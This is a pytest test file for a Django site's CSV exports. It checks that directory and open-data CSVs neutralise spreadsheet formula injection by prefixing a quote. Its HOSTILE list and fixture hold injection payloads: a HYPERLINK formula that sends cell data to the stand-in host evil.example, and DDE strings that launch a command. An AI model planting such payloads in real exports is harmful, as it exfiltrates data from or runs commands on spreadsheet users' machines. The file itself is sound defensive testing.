"""Every CSV the site writes is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from agenda.tests.factories import EventFactory
from directory.tests.factories import ActorFactory, PlaceFactory
from maillage import csv as safe_csv
from opendata import services as opendata_services
from projects.models import Participation
from projects.tests.factories import ParticipationFactory, ProjectFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+32 2 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


def _dangerous(cell):
    """Could start a formula; a plain number (a latitude) is read as a number, not a formula."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_gets_a_quote(text):
    assert safe_csv.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Repair Café", "", "1050", "'déjà cité", None, True])
def test_other_values_are_written_as_they_are(value):
    assert safe_csv.safe_cell(value) is value


@pytest.mark.parametrize("number", [-4.35, 50.84, -12, Decimal("-0.5"), 1e-07])
def test_real_numbers_stay_numbers(number):
    out = io.StringIO()
    safe_csv.writer(out).writerow([number, str(number)])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == str(number), "a number stays a number a spreadsheet can sum"
    assert cells[1] == str(number) if not str(number).startswith("-") else "'" + str(number)


def test_dict_writer_quotes_too():
    out = io.StringIO()
    writer = safe_csv.DictWriter(out, fieldnames=["name", "lat"])
    writer.writeheader()
    writer.writerow({"name": "=1+1", "lat": -4.3})
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"name": "'=1+1", "lat": "-4.3"}]


@pytest.fixture
def hostile(db):
    actor = ActorFactory(
        name_fr=HOSTILE[0],
        phone=HOSTILE[1],
        email="@evil.example",
        website="https://example.org/",
        opening_hours_fr=HOSTILE[2],
        places=[PlaceFactory(street="=cmd|'/C calc'!A0", lat=50.84, lon=-4.35)],
    )
    EventFactory(title_fr=HOSTILE[3], price_fr="-5 €", organisers=[actor], place=actor.places.first())
    project = ProjectFactory(title_fr=HOSTILE[4], summary_fr="=1+1")
    ParticipationFactory(project=project, actor=actor, role=Participation.Role.LEAD)
    return actor


def _check(rows, name):
    cells = [cell for row in rows for cell in row]
    assert cells, f"{name} is empty"
    unsafe = [cell for cell in cells if _dangerous(cell)]
    assert unsafe == [], f"{name} holds cells a spreadsheet would run: {unsafe}"
    return cells


def test_the_directory_csv_is_safe(client, hostile):
    response = client.get(reverse("opendata:actors_csv"))
    cells = _check(list(csv.reader(io.StringIO(response.content.decode()))), "the directory's CSV")
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells, "the text is kept, made inert"


def test_every_csv_of_the_open_data_dump_is_safe(hostile, tmp_path):
    result = opendata_services.build_dump(tmp_path / "dump.zip")
    with zipfile.ZipFile(result.path) as archive:
        names = [name for name in archive.namelist() if name.endswith(".csv")]
        assert set(names) == {"actors.csv", "events.csv", "projects.csv"}
        for name in names:
            rows = list(csv.reader(io.TextIOWrapper(archive.open(name), encoding="utf-8", newline="")))
            cells = _check(rows, name)
            if name == "actors.csv":
                assert "-4.35" in cells, "a longitude stays a number"


def test_no_csv_is_written_without_the_helper():
    """A new export must use maillage.csv: no other module calls csv.writer or csv.DictWriter."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in (".venv", "bench") or "tests" in relative.parts or relative == Path("maillage/csv.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer(" in text.replace("safe_csv.writer(", "") or "csv.DictWriter(" in text.replace(
            "safe_csv.DictWriter(", ""
        ):
            offenders.append(str(relative))
    assert offenders == []
